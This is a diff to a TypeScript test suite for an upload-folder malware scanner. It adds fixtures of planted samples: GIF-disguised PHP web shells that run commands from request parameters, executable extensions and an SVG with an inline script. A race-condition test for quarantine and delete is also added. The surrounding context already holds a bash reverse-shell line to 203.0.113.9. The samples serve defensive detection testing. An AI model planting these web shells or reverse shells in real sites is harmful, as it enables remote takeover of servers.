@@ -15,6 +15,8 @@ const clean: Readonly<Record<string, string>> = {
   "2026/01/f.mp4": "\0\0\0\x18ftypmp42",
   "2026/01/g.csv": "day,height\n1,2\n",
   "2026/01/empty.jpg": "",
+  "2026/01/i.jpg": '\xff\xd8\xff\xe1<?xpacket begin="" id="W5M0"?><x:xmpmeta/><?xpacket end="w"?>',
+  "2026/01/j.gif": "GIF89a<?=\x01<? \x02(<?x",
   "spool/h.bin": "\0\x01\x02\x03",
 };
 const planted: readonly (readonly [name: string, text: string, rule: string, severity: number])[] =
@@ -36,6 +38,17 @@ const planted: readonly (readonly [name: string, text: string, rule: string, sev
     ["2026/01/9.jpg", "\x7fELF\x02", "is-program", 100],
     ["2026/01/10.txt", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "is-script", 100],
     ["2026/01/11.js", "console.log(1)", "runnable-name", 100],
+    ["2026/01/13.gif", "GIF89a<?=system($_GET[1])?>", "hidden-script", 100],
+    ["2026/01/14.gif", "GIF89a<? @eval ($_POST[1]) ?>", "hidden-script", 100],
+    ["2026/01/15.gif", "GIF89a<?=`$_GET[1]`?>", "hidden-script", 100],
+    ["2026/01/16.pht", "x", "runnable-name", 100],
+    ["2026/01/17.ashx", "x", "runnable-name", 100],
+    [
+      "2026/01/12.svg",
+      `<svg>${"<path/>".repeat(50_000)}<script>alert(1)</script></svg>`,
+      "svg-script",
+      100,
+    ],
   ];
 async function filled(files: Readonly<Record<string, string>>) {
   const blobs = testBlobs();
@@ -92,6 +105,24 @@ describe.each(await testStorages())("uploads on %s", (_, storage) => {
     expect([...blobs.files.keys()]).toEqual(["2026/01/1.php"]);
     expect((await site.list()).issues.ignored).toEqual([]);
     expect(await site.scan()).toHaveLength(1);
+  });
+
+  test("a file whose issue is forgotten while it is put away is not lost", async () => {
+    const files = await filled({ "2026/01/1.php": "<?php echo 1;" });
+    let meanwhile: (() => Promise<unknown>) | undefined;
+    const remove: Blobs["remove"] = async (name) => {
+      const isGone = await files.remove(name);
+      const next = meanwhile;
+      meanwhile = undefined;
+      await next?.();
+      return isGone;
+    };
+    await using site = await startSite({ storage: storage(), blobs: { ...files, remove } });
+    const [issue] = await site.scan();
+    const id = issue?.id ?? 0;
+    meanwhile = () => site.change(id, "delete");
+    expect((await site.change(id, "quarantine")).status).toBe(404);
+    expect([...files.files.keys()]).toEqual(["2026/01/1.php"]);
   });
 
   test("a file that has changed since it was looked at is not put away", async () => {
